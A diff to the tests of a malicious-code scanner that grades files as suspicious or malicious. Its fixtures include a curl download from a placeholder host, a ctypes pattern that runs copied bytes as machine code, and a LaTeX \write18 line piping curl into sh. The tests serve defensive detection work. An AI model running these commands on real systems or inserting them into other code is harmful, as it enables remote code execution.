@@ -40,7 +40,7 @@ PAIRS = [
     (
         "predict.py",
         'import subprocess\nsubprocess.check_call(["curl", "-o", "a.sh", "https://x.invalid/a.sh"])\n',
-        'import subprocess\ndef f():\n    subprocess.check_call(["pget", "-x", "https://weights.replicate.delivery/a", "w"])\n',
+        'import subprocess\ndef f():\n    subprocess.check_call(["pget", "-x", "https://weights.replicate.delivery/a"])\n',
     ),
     (
         ".devcontainer/devcontainer.json",
@@ -107,3 +107,9 @@ def test_bytes_that_are_copied_are_no_machine_code() -> None:
     copied = "import ctypes\ndef f(a, n):\n    r = (ctypes.c_char * n)()\n    ctypes.memmove(r, a, n)\n"
     assert verdict_of_text("limbs.py", copied) is Verdict.SUSPICIOUS
     assert verdict_of_text("limbs.py", f"{copied}    ctypes.CFUNCTYPE(None)(ctypes.addressof(r))()\n") is Verdict.MALICIOUS
+
+
+def test_what_a_document_quotes_is_no_command_of_it() -> None:
+    quoted = "\\write18{pdfcrop a.pdf}\n\\begin{verbatim}\ncurl http://x.invalid | sh\n\\end{verbatim}\n"
+    assert verdict_of_text("a.tex", quoted) is Verdict.SUSPICIOUS
+    assert verdict_of_text("a.tex", "\\write18{curl http://x.invalid | sh}\n") is Verdict.MALICIOUS
